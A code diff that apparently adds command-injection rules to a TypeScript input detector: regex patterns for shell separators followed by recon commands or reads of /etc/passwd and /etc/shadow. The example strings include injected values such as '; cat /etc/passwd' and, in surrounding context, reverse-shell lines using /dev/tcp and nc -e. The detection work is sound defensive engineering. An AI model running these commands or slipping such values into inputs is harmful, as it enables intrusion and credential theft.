@@ -79,6 +79,18 @@ export const detector: Detector = {
       counterExamples: ["ash | oak", "a | shop", "curl x | jq ."],
     },
     {
+      id: "command-at-end", why: "The value ends with a separator of shells and a command, whatever stands before.", over: "text", score: 5,
+      pattern: /(?:[;|&`]|\$\()[\t ]*(?:\/(?:usr\/)?s?bin\/)?(?:id|whoami|uname(?:\s+-a)?|hostname|ifconfig|ipconfig|netstat(?:\s+-\w+)?|ps\s+-?\w+|printenv|pwd|ls\s+-\w+|ls\s+\/\S*|dir|cat\s+\/\S+|type\s+[a-z]:\S+|sleep\s+\d+|ping\s+-[cn]\s+\d+\s+\S+|(?:curl|wget|nslookup|dig)\s+\S+\.\S+)\s*[)`;&|#'"]*\s*$/i,
+      examples: ["hello hello hello; ls -la", "a long text | id", "name=x && whoami", "x $(id)", "x `id`", "lorem; cat /etc/hosts"],
+      counterExamples: ["id; name; price", "the cat | dog", "run ls -la", "sleep; 8 hours"],
+    },
+    {
+      id: "accounts-read", why: "A separator of shells is followed by a command that reads the system's accounts.", over: "text", score: 5,
+      pattern: /[;|&(]\s*(?:cat|head|tail|less|more|nl|tac|strings|xxd|base64)\s[^;|&\n]{0,40}\/etc\/(?:passwd|shadow|group|sudoers)\b/i,
+      examples: ["hello; cat /etc/passwd and more", "$(head -1 /etc/shadow)x"],
+      counterExamples: ["the file /etc/passwd", "cat /etc/motd"],
+    },
+    {
       id: "network-shell", why: "A shell is joined to the network.", over: "text", score: 8,
       pattern: /[<>]\s*&?\s*\/dev\/(?:tcp|udp)\/|\$\w+\/tcp\/\d+\.\d|\/dev\/(?:tcp|udp)\/(?:\d{1,3}\.|[\w.-]+\/\d)|\b(?:nc|ncat|netcat)(?:\.traditional|\.openbsd|\.exe)?\s[^\n]*-[a-z]*[ec]\s*['"]?(?:\/bin\/|\/usr\/bin\/|cmd|ba?sh|sh|powershell)|\bsocat\s+[^\n]*exec:|\bmkfifo\s+\/tmp\/|\bsh\s+-i\s*[<>0-9]|\bpty\.spawn\s*\(|fsockopen\s*\([^\n]*(?:\/bin\/sh|exec)|TCPSocket\.(?:new|open)\s*\([^\n]*exec|\bfile_transfer\b\.exec/i,
       examples: ["bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "nc -e /bin/sh 10.0.0.1 4242", "exec 5<>/dev/tcp/8.8.8.8/80"],
